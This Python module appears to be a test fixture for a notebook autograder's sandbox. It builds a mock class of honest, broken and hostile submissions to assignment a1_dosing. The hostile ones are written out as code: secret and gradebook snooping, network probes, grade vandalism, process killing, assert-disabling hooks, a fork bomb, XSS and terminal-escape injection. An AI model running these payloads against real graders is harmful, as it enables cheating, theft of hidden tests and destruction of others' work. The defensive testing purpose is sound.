"""A class for assignment a1_dosing: honest submissions, broken ones, and one hostile submission of every kind
in issue 16 (read secrets, reach the network, vandalise, kill the grader, neutralise the tests, exhaust time,
memory, output and processes, crash, leak its own tests, rename the file, hand in something else).

Every answer is written the way a student might, never as the source's solution line, so that solution lines
can be searched for as secrets everywhere. Each submission's first answer cell carries a marker unique to it,
so that another student's answer can be recognised if it leaks.

Written for a1_dosing as it is: its grade ids (a1_q1_answer ... a1_q4_tests), its four answers and its points
(2, 3, 3, 2). If a1 changes, RIGHT, WRONG and the expected scores in make_class change with it.
"""

from __future__ import annotations

import copy
import secrets
import textwrap

# Correct answers, in a student's words (not the source's solution lines).
RIGHT = {
    "a1_q1_answer": "mg_per_kg_day = 70 / 64",
    "a1_q2_answer": "days_needed = -(-120 * 64 // 70)",
    "a1_q3_answer": "end_day = 9 + 14 + -(-(120 * 64 - 14 * 40) // 70)",  # 9 missed days, 14 days at 40 mg, the rest at 70 mg
    "a1_q4_answer": "regimen = build_regimen(0.5, 64, rounding=\"at_least\")\nfirst_month_mg = regimen.daily_mg",
}
WRONG = {
    "a1_q1_answer": "mg_per_kg_day = 0.5",
    "a1_q2_answer": "days_needed = 100",
    "a1_q3_answer": "end_day = days_needed + 9",  # the one-step answer of a1's first version: ignores the 14 lower-dose days
    "a1_q4_answer": "first_month_mg = 30",
}


def spy(course: str, repo: str, home: str, everywhere: bool = True, real_repo: str = "") -> str:
    """Look for hidden tests, solutions, mark schemes, the class list and other answers; print what it finds."""
    extra = (f'{real_repo!r}, "/root", "/home", "/tmp", "/var/tmp", "/run", str(pathlib.Path.cwd().parents[2])'
             if everywhere else "")
    return textwrap.dedent(f"""
        import os, glob, re, sqlite3, pathlib
        found = []
        places = [{course!r}, {repo!r}, {home!r}, {extra}]
        for place in places:
            for path in glob.glob(place + "/**", recursive=True)[:5000]:
                if os.path.isfile(path) and not path.startswith("/proc"):
                    try:
                        text = open(path, errors="replace").read(2000000)
                    except OSError:
                        continue
                    # nbgrader's markers as authors write them (the grader's own code, visible read-only, names
                    # them without the ### / === around them)
                    pieces = re.findall(r"(?:### BEGIN (?:HIDDEN TESTS|SOLUTION)|=== BEGIN MARK SCHEME ===).{{0,400}}", text, re.S)
                    if pieces or "SECRET" in text:
                        found.append(path)
                        print("SPY", path, pieces[:6], text[:200] if "SECRET" in text else "")
            for db in glob.glob(place + "/**/*.db", recursive=True):
                try:
                    print("SPY class list", sqlite3.connect(db).execute("select id from student").fetchall())
                    print("SPY source cells", sqlite3.connect(db).execute("select source from source_cells").fetchall()[:40])
                except Exception as error:
                    print("spy: no", db, error)
            try:
                print("SPY listing", place, os.listdir(place))
            except OSError as error:
                print("spy: cannot list", place, error)
        print("SPY environment", sorted(os.environ))
        print("spy found", len(found), "files")
    """)


def network(port: int, host_ip: str, abstract: str) -> str:
    return textwrap.dedent(f"""
        import socket, urllib.request
        for address in [("127.0.0.1", {port}), ({host_ip!r}, {port}), ("1.1.1.1", 80)]:
            try:
                socket.create_connection(address, timeout=2).close()
                print("NETWORK CONNECTED", address)
            except OSError as error:
                print("net: refused", address, error)
        try:
            unix = socket.socket(socket.AF_UNIX)
            unix.connect({abstract!r})
            print("NETWORK CONNECTED abstract unix socket")
        except OSError as error:
            print("net: refused abstract socket", error)
        try:
            print("NETWORK CONNECTED", urllib.request.urlopen("http://example.com", timeout=3).status)
        except Exception as error:
            print("net: no web", error)
    """)


def vandal(course: str, victim: str) -> str:
    """Rewrite another student's submission and grades, inject feedback, modify source, config, gradebook."""
    return textwrap.dedent(f"""
        import os, json, sqlite3, shutil
        course = {course!r}
        targets = [
            f"{{course}}/submitted/{victim}/a1_dosing/a1_dosing.ipynb",
            f"{{course}}/autograded/{victim}/a1_dosing/a1_dosing.ipynb",
            f"{{course}}/feedback/{victim}/a1_dosing/a1_dosing.html",
            f"{{course}}/source/a1_dosing/a1_dosing.ipynb",
            f"{{course}}/release/a1_dosing/a1_dosing.ipynb",
            f"{{course}}/nbgrader_config.py",
            f"{{course}}/VANDAL.txt",
        ]
        for target in targets:
            try:
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "a") as handle:
                    handle.write("<p>INJECTED BY VANDAL</p>")
                print("VANDAL WROTE", target)
            except OSError as error:
                print("vandal: refused", target, error)
        try:
            db = sqlite3.connect(f"{{course}}/gradebook.db")
            db.execute("update grade set auto_score = 10")
            db.commit()
            print("VANDAL WROTE gradebook")
        except Exception as error:
            print("vandal: gradebook refused", error)
        try:
            os.symlink(f"{{course}}/source/a1_dosing/a1_dosing.ipynb", "a1_dosing.ipynb.link")
            print("vandal: symlink made in its own working folder (harmless)")
        except OSError as error:
            print("vandal: no symlink", error)
    """)


KILLER = textwrap.dedent("""
    import os, signal
    targets = {os.getppid(), 0, -1, 1}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            targets.add(int(entry))
    for pid in sorted(targets):
        if pid == os.getpid():
            continue
        for sig in (signal.SIGKILL, signal.SIGTERM):
            try:
                os.kill(pid, sig)
                print("killer: sent", sig, "to", pid)
            except OSError as error:
                print("killer: could not signal", pid, error)
    try:
        os.killpg(os.getpgrp(), signal.SIGKILL)
    except OSError as error:
        print("killer: killpg", error)
""")

HOOK_TRANSFORMER = textwrap.dedent("""
    def _pass_every_test(lines):
        return ["pass\\n"] if any("assert" in line for line in lines) else lines
    get_ipython().input_transformers_post.append(_pass_every_test)
""")

HOOK_AST = textwrap.dedent("""
    import ast
    class _NoAsserts(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.Pass()
    get_ipython().ast_transformers.append(_NoAsserts())
""")

HOOK_EXCEPTION = textwrap.dedent("""
    def _swallow(shell, etype, evalue, tb, tb_offset=None):
        return None
    get_ipython().set_custom_exc((AssertionError, NameError, TypeError), _swallow)
""")

HOOK_BUILTINS = textwrap.dedent("""
    import builtins, sys
    builtins.abs = lambda value: 0.0  # the hidden test `abs(answer - expected) < 0.005` now always holds
    def _watch(frame, event, arg):
        return None
    sys.settrace(_watch)
""")

LIAR = textwrap.dedent("""
    class _Agree(int):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return True
        def __gt__(self, other): return True
        __hash__ = int.__hash__
    class _AgreeFloat(float):
        def __sub__(self, other): return 0.0
        def __lt__(self, other): return True
        def __gt__(self, other): return True
    mg_per_kg_day = _AgreeFloat(5)
""")

SLOW = textwrap.dedent("""
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # the interrupt cannot stop it
    time.sleep(10 ** 6)
    end_day = 125
""")

LOOP = "while True:\n    pass\nend_day = 125"

HOG = "days_needed = -(-120 * 64 // 70)\nhuge = bytearray(64 * 2 ** 30)"

FLOOD = RIGHT["a1_q4_answer"] + "\nfor _ in range(50):\n    print('x' * 2 ** 20)"

FORK_BOMB = RIGHT["a1_q4_answer"] + textwrap.dedent("""
    import os, time
    children = 0
    try:
        while children < 5000:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
            children += 1
    except OSError as error:
        print("fork refused after", children, "children:", error)
""")

CRASH = "import os\nos._exit(3)"

LEAKER = RIGHT["a1_q4_answer"] + textwrap.dedent("""
    import linecache
    print("LEAK history", In)
    for name, entry in list(linecache.cache.items()):
        print("LEAK", name, "".join(entry[2]) if len(entry) > 2 else entry)
""")


SCRIPT = RIGHT["a1_q4_answer"] + textwrap.dedent("""
    from IPython.display import HTML, Javascript, display
    display(HTML("<script>alert('XSS-OUTPUT')</script><img src=x onerror=alert('XSS-IMG')>"))
    display(Javascript("alert('XSS-JS')"))
""")
SCRIPT_CELL = "Extra notes.\n<script>alert('XSS-MARKDOWN')</script><img src=y onerror=alert('XSS-MD-IMG')>"

# A message that would rewrite the instructor's terminal: erase the line, move up, print a fake report line.
INJECTOR = 'raise SyntaxError("oops\\n\\x1b[2K\\x1b[1Azq_full: tampering detected  [0/10]\\x1b[8m")'

# Written against this grader (the hostile review's attack): declare its own classes trusted in the guard's cache,
# then answer with objects that agree with every comparison.
POISONER = textwrap.dedent("""
    _G = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_SandboxGuard"][0]
""") + LIAR + textwrap.dedent("""
    for _cls in (_Agree, _AgreeFloat):
        _G.trusted_class.__defaults__[0][id(_cls)] = (_cls, True)
""")


def answered(release: dict, answers: dict[str, str], marker: str) -> dict:
    notebook = copy.deepcopy(release)
    for cell in notebook["cells"]:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell["source"] = answers[grade_id]
            if grade_id == "a1_q1_answer":
                cell["source"] = f"# {marker}\n" + cell["source"]
    return notebook


SYNTAX_ERROR = "days_needed = -(-120 * 64 // 70"  # a bracket missing


def without_cell(notebook: dict, grade_id: str) -> dict:
    changed = copy.deepcopy(notebook)
    changed["cells"] = [cell for cell in changed["cells"] if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") != grade_id]
    return changed


def with_cell(notebook: dict, grade_id: str, text: str) -> dict:
    changed = copy.deepcopy(notebook)
    for cell in changed["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            cell["source"] = text
    return changed


def with_markdown(notebook: dict, text: str) -> dict:
    """The notebook with one more markdown cell of the student's own at the end."""
    changed = copy.deepcopy(notebook)
    changed["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})
    return changed


def make_class(release: dict, *, course: str, repo: str, home: str, port: int, host_ip: str, abstract: str,
               real_repo: str) -> dict:
    """Student id -> (file name, notebook dict or raw bytes, marker, expected score, expected reason)."""
    markers = {}

    def marker(student: str) -> str:
        markers[student] = f"ANSWER-OF-{student}-{secrets.token_hex(4)}"
        return markers[student]

    def right(student: str, **overrides) -> dict:
        return answered(release, {**RIGHT, **overrides}, marker(student))

    def wrong(student: str, hook: str) -> dict:
        return answered(release, {**WRONG, "a1_q1_answer": hook + "\n" + WRONG["a1_q1_answer"]}, marker(student))

    students = {
        "zq_full": ("a1_dosing.ipynb", right("zq_full"), 10, "graded"),
        "zq_partial": ("a1_dosing.ipynb", right("zq_partial", a1_q3_answer="end_day = days_needed + 8"), 7, "graded"),
        "zq_blank": ("a1_dosing.ipynb", answered(release, {}, marker("zq_blank")), 0, "graded"),
        "zx_spy": ("a1_dosing.ipynb", right("zx_spy", a1_q1_answer=RIGHT["a1_q1_answer"] + spy(course, repo, home, real_repo=real_repo)),
                   10, "blocked by the sandbox"),
        "zx_network": ("a1_dosing.ipynb", right("zx_network", a1_q2_answer=RIGHT["a1_q2_answer"] + network(port, host_ip, abstract)), 10, "blocked by the sandbox"),
        "zx_vandal": ("a1_dosing.ipynb", right("zx_vandal", a1_q1_answer=RIGHT["a1_q1_answer"] + vandal(course, "zq_blank")), 10, "blocked by the sandbox"),
        "zx_killer": ("a1_dosing.ipynb", right("zx_killer", a1_q1_answer=RIGHT["a1_q1_answer"] + KILLER), 10, "blocked by the sandbox"),
        "zx_hook_transformer": ("a1_dosing.ipynb", wrong("zx_hook_transformer", HOOK_TRANSFORMER), 0, "tampering detected"),
        "zx_hook_ast": ("a1_dosing.ipynb", wrong("zx_hook_ast", HOOK_AST), 0, "tampering detected"),
        "zx_hook_exception": ("a1_dosing.ipynb", wrong("zx_hook_exception", HOOK_EXCEPTION), 0, "tampering detected"),
        "zx_hook_builtins": ("a1_dosing.ipynb", wrong("zx_hook_builtins", HOOK_BUILTINS), 0, "tampering detected"),
        "zx_liar": ("a1_dosing.ipynb", answered(release, {"a1_q1_answer": LIAR, "a1_q2_answer": "days_needed = _Agree(1)",
                                                           "a1_q3_answer": "end_day = _Agree(2)",
                                                           "a1_q4_answer": "first_month_mg = _Agree(3)"}, marker("zx_liar")),
                    0, "tampering detected"),
        "zx_slow": ("a1_dosing.ipynb", right("zx_slow", a1_q3_answer=SLOW), 7, "time limit in cell a1_q3_answer"),
        "zx_loop": ("a1_dosing.ipynb", right("zx_loop", a1_q3_answer=LOOP), 7, "time limit in cell a1_q3_answer"),
        "zx_hog": ("a1_dosing.ipynb", right("zx_hog", a1_q2_answer=HOG), 10, "memory limit in cell a1_q2_answer"),
        "zx_flood": ("a1_dosing.ipynb", right("zx_flood", a1_q4_answer=FLOOD), 10, "output truncated in cell a1_q4_answer"),
        "zx_fork_bomb": ("a1_dosing.ipynb", right("zx_fork_bomb", a1_q4_answer=FORK_BOMB), 10, "process limit in cell a1_q4_answer"),
        "zx_crash": ("a1_dosing.ipynb", right("zx_crash", a1_q3_answer=CRASH), 7, "kernel died in cell a1_q3_answer"),
        "zx_leaker": ("a1_dosing.ipynb", right("zx_leaker", a1_q4_answer=LEAKER), 10, "graded"),
        "zx_renamed": ("a1_dosing (1).ipynb", right("zx_renamed"), 10, "file renamed"),
        "zx_not_a_notebook": ("a1_dosing.ipynb", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n", 0, "not a notebook"),
        "zx_script": ("a1_dosing.ipynb", with_markdown(right("zx_script", a1_q4_answer=SCRIPT), SCRIPT_CELL), 10, "graded"),
        "zx_injector": ("a1_dosing.ipynb", right("zx_injector", a1_q3_answer=INJECTOR), 7, "syntax error in cell a1_q3_answer"),
        "zx_poisoner": ("a1_dosing.ipynb", answered(release, {"a1_q1_answer": POISONER, "a1_q2_answer": "days_needed = _Agree(1)",
                                                               "a1_q3_answer": "end_day = _Agree(2)",
                                                               "a1_q4_answer": "first_month_mg = _Agree(3)"}, marker("zx_poisoner")),
                        0, "tampering detected"),
        # Broken, not hostile: what students hand in by mistake.
        "zb_syntax_error": ("a1_dosing.ipynb", right("zb_syntax_error", a1_q2_answer=SYNTAX_ERROR), 4,  # q3 needs q2's answer
                            "syntax error in cell a1_q2_answer"),
        "zb_deleted_test": ("a1_dosing.ipynb", without_cell(right("zb_deleted_test"), "a1_q2_tests"), 7,
                            "locked cell edited or deleted in cell a1_q2_tests"),
        "zb_edited_test": ("a1_dosing.ipynb", with_cell(right("zb_edited_test", a1_q1_answer="mg_per_kg_day = 0.5"), "a1_q1_tests",
                                                        "pass  # tests removed"), 8,  # the original test is graded, and fails
                           "locked cell edited or deleted in cell a1_q1_tests"),
        "zb_empty_file": ("a1_dosing.ipynb", b"", 0, "not a notebook"),
        "zb_invalid_json": ("a1_dosing.ipynb", b"{ this is not a notebook", 0, "not a notebook"),
    }
    return {student: {"file": file, "content": content, "score": score, "reason": reason, "marker": markers.get(student)}
            for student, (file, content, score, reason) in students.items()}
